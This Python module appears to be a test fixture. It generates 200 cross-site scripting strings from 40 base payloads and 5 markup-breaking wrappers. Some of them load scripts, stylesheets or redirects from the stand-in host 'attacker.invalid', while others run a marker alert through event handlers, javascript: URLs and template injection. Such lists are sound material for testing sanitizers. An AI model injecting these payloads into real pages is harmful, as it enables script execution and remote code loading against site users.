"""Two hundred texts that would run a script, pop up a window or load from elsewhere, if a page took them for markup."""

_BASES = (
    "<script>{js}</script>",
    "<SCRIPT SRC=//{host}/x.js></SCRIPT>",
    "<img src=x onerror={js}>",
    '<img src="//{host}/pixel.png">',
    "<svg onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><script>{js}</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror={js}>",
    "<body onload={js}>",
    "<iframe src=javascript:{js}></iframe>",
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "<object data=//{host}/x></object>",
    "<embed src=//{host}/x>",
    "<link rel=stylesheet href=//{host}/x.css>",
    "<style>@import '//{host}/x.css';</style>",
    "<style>*{{background:url(//{host}/x)}}</style>",
    "<base href=//{host}/>",
    '<meta http-equiv=refresh content="0;url=//{host}/">',
    "<form action=//{host}/><button autofocus onfocus={js}>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video src=//{host}/v onerror={js}>",
    "<audio src=//{host}/a onerror={js}>",
    "<video><source onerror={js}></video>",
    "<marquee onstart={js}>",
    "<a href=javascript:{js}>go</a>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "![x](//{host}/pixel.png)",
    "[x](javascript:{js})",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}",
    "${{{js}}}",
    "<gr-chart data='[1]' onclick={js}>",
    "<div hx-get=//{host}/ hx-trigger=load>",
    "<div hx-on:load={js}>",
    "<div hx-on--load={js} data-hx-get=//{host}/ data-hx-trigger=load>",
    "</textarea><img src=x onerror={js}>",
)
_BREAKS = (
    "{payload}",
    "\"'>{payload}",
    "</title></style></script>{payload}",
    "--></textarea></select>]]>{payload}<!--",
    "\u2028{payload}\u202e\x00\x1b[31m",
)
HOST = "attacker.invalid"
PAYLOADS = tuple(
    wrapped.format(payload=base.format(js="window.hit=1,alert(1)", host=HOST))
    for base in _BASES
    for wrapped in _BREAKS
)
"""Every one of forty ways, alone and with what ends the place it may stand in."""
